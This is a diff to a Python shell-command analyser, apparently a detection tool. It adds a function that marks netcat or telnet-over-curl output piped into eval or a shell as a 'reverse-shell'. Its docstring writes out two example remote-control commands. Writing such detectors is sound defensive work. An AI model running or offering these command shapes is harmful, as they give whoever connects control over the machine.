@@ -37,6 +37,7 @@ def relate(drafts: Sequence[Draft], text: str) -> None:
     if sockets:
         _over_sockets(drafts, shells)
     _joined_by_pipe(drafts)
+    _obeys(drafts)
     if not shells:
         return
     networked = any(d.program in NETWORK for d in drafts if _connects(d))
@@ -51,6 +52,15 @@ def relate(drafts: Sequence[Draft], text: str) -> None:
         for draft in shells:
             if draft.pipes_into in NETWORK:
                 draft.facts.add("reverse-shell")
+
+
+def _obeys(drafts: Sequence[Draft]) -> None:
+    """`nc -l 99 | while read c; do eval $c; done`, `curl telnet://host:99 | sh`: whoever is connected gives orders."""
+    typed = any(url.startswith("telnet:") for d in drafts if d.program == "curl" for url in d.fetches)
+    for draft in drafts:
+        ordered = draft.piped_from in _RAW and draft.program in ("eval", None)
+        if ordered or (typed and draft.piped_from == "curl" and _is_open_shell(draft)):
+            draft.facts.add("reverse-shell")
 
 
 def _connects(draft: Draft) -> bool:
